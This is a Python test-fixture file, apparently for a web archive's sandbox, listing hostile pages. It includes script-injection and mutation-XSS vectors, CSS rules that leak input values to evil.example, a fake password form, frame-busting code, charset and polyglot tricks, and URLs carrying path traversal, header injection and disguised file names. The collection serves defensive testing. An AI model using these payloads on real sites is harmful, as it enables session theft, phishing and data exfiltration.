"""Pages that an archive may hold: what they would do if anything of them ran.

Of our own making, by the classes of what browsers can be brought to do by markup, style, and files
that are two things at once. Every page asks for addresses of `evil.example`, sets `window.ran`, or
leaves the frame.
"""
# ruff: noqa: E501 - lines of other languages

EVIL = "http://evil.example"
RUN = "window.ran=1;window.top.ran=1;parent.ran=1;top.location='http://evil.example/busted'"

PAGES = {
    "script": f"<p>Words stay.</p><script>{RUN}</script><script src='{EVIL}/x.js'></script>",
    "module": f"<p>Words stay.</p><script type=module>import('{EVIL}/m.js');{RUN}</script>",
    "handlers": f'<p>Words stay.</p><img src=x onerror="{RUN}"><body onload="{RUN}" onpageshow="{RUN}">'
    f'<details open ontoggle="{RUN}"><summary>a</summary></details><input autofocus onfocus="{RUN}">',
    "svg": f'<p>Words stay.</p><svg onload="{RUN}"><script>{RUN}</script><foreignObject><iframe '
    f"srcdoc='<script>{RUN}</script>'></iframe></foreignObject><image href='{EVIL}/i.png'/>"
    f"<use href='{EVIL}/u.svg#a'/><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>",
    "links": f'<p>Words stay.</p><a id=a href="javascript:{RUN}">Click</a>'
    f"<a id=b href='{EVIL}/left' target=_top>Leave</a><a id=c href='{EVIL}/pop' target=_blank ping='{EVIL}/ping'>Pop</a>"
    f"<map name=m><area shape=rect coords=0,0,900,900 href='{EVIL}/area'></map>"
    f"<a id=d href='data:text/html,<script>{RUN}</script>'>Data</a><a href=' &#106;avascript:{RUN}'>e</a>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refreshed'><p>Words stay.</p>",
    "base": f"<base href='{EVIL}/' target=_top><p>Words stay.</p><img src=pixel.png><a href=more>More</a>",
    "styles": f"<style>@import url('{EVIL}/a.css');@import '{EVIL}/b.css';@\\69mport '{EVIL}/c.css';"
    f"@font-face{{font-family:x;src:url({EVIL}/f.woff)}}body{{font-family:x;background:u\\72l({EVIL}/bg.png);"
    f"cursor:url({EVIL}/c.cur),auto}}p::after{{content:url({EVIL}/after.png)}}"
    f"p{{background:image-set('{EVIL}/set.png' 1x)}}input[value^=a]{{background:url({EVIL}/leak-a)}}</style>"
    f"<link rel=stylesheet href='{EVIL}/l.css'><link rel=preload as=image href='{EVIL}/pre.png'>"
    f"<link rel=dns-prefetch href='//evil.example'><link rel=icon href='{EVIL}/icon.ico'>"
    f'<p style="background:url({EVIL}/attr.png);behavior:url({EVIL}/b.htc)">Words stay.</p>',
    "style-breaks-out": f'<style>p{{color:red}}</style><style>a{{content:"</style><script>{RUN}</script>"}}</style>'
    f'<p style="x:\'}}</style><script>{RUN}</script>">Words stay.</p>',
    "busting": f"<p>Words stay.</p><script>if(top!=self)top.location='{EVIL}/busted';{RUN}</script>"
    f"<form id=f target=_top action='{EVIL}/form'><button autofocus>Go</button></form>",
    "frames": f"<p>Words stay.</p><iframe src='{EVIL}/frame'></iframe><object data='{EVIL}/o.swf'></object>"
    f"<embed src='{EVIL}/e.svg'><iframe srcdoc='&lt;script&gt;{RUN}&lt;/script&gt;'></iframe>"
    f"<portal src='{EVIL}/p'></portal><fencedframe src='{EVIL}/ff'></fencedframe>",
    "frameset": f"<frameset onload=\"{RUN}\"><frame src='{EVIL}/frame'><noframes><p>Words stay.</p></noframes></frameset>",
    "media": f"<p>Words stay.</p><video autoplay src='{EVIL}/v.mp4' poster='{EVIL}/p.png'></video>"
    f"<audio autoplay src='{EVIL}/a.mp3'></audio><picture><source srcset='{EVIL}/s.png'><img srcset='{EVIL}/t.png 2x' src='{EVIL}/i.png'></picture>"
    f"<table background='{EVIL}/bg.png'><tr><td background='{EVIL}/td.png'>x</table><input type=image src='{EVIL}/in.png'>",
    "data": f'<p>Words stay.</p><img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>\'>'
    f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
    "mutation": f'<p>Words stay.</p><noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>'
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></mglyph></table></mtext></math>'
    f'<xmp><p title="</xmp><script>{RUN}</script>"></xmp><textarea><p title="</textarea><script>{RUN}</script>"></textarea>'
    f'<title><p title="</title><script>{RUN}</script>"></title><!--><script>{RUN}</script>-->',
    "template": f"<p>Words stay.</p><template><script>{RUN}</script></template><slot></slot>"
    f'<x-y onclick="{RUN}" style="position:fixed;inset:0">z</x-y><dialog open>Sign in again<form action=\'{EVIL}/phish\' method=post>'
    f"<input name=password></form></dialog>",
    "plaintext": f"<p>Words stay.</p><plaintext><script>{RUN}</script>",
    "attributes": f"<p class='\"><script>{RUN}</script>' id='\"onload={RUN}' title='\"><img src=x onerror={RUN}>' dir='\"'>Words stay.</p>",
}
"""HTML by what is wrong with it."""

BROKEN = {
    "utf-7": (
        b"<p>Words stay.</p>+ADw-script+AD4-window.ran+AD0-1+ADw-/script+AD4-",
        "text/html; charset=utf-7",
    ),
    "iso-2022": (
        b'<p>Words stay.</p><img alt="\x1b$@" src=x><p title="\x1b(B onerror=window.ran=1 ',
        "text/html; charset=iso-2022-jp",
    ),
    "utf-16": (
        "\ufeff<p>Words stay.</p><script>window.ran=1</script>".encode("utf-16-le"),
        "text/html",
    ),
    "wrong-name": (b"<p>Words stay.</p>\xff\xfe\x80", "text/html; charset=no-such-thing"),
    "half": (b"<p>Words stay.</p><p>\xe2\x82", "text/html; charset=utf-8"),
    "no-type": (b"<!doctype html><p>Words stay.</p><script>window.ran=1</script>", ""),
    "nul": (b"<!doctype html><p>Words stay.</p><scr\x00ipt>window.ran=1</script>", "text/html"),
}
"""Bytes and the type that a server tells of them."""

GIF_AND_SCRIPT = b"GIF89a/*\x01\x00\x01\x00*/=1;window.ran=1//<script>window.ran=1</script>"
"""A picture that is a script and a page too."""

SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>".encode()
)
PDF = b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n<script>window.ran=1</script>"

NAMES = (
    "https://example.org/a/..%2f..%2fetc%2fpasswd",
    "https://example.org/%22%0d%0aSet-Cookie:%20ran=1.exe",
    "https://example.org/<script>window.ran=1</script>.html",
    "https://example.org/\u202egnp.exe",
    "https://example.org/.htaccess",
    "https://example.org/" + "a" * 3000 + ".html?x=" + "b" * 300,
    "https://example.org/CON.html",
    "file:..\\..\\x.bat",
)
"""Addresses whose last part is no name for a file."""
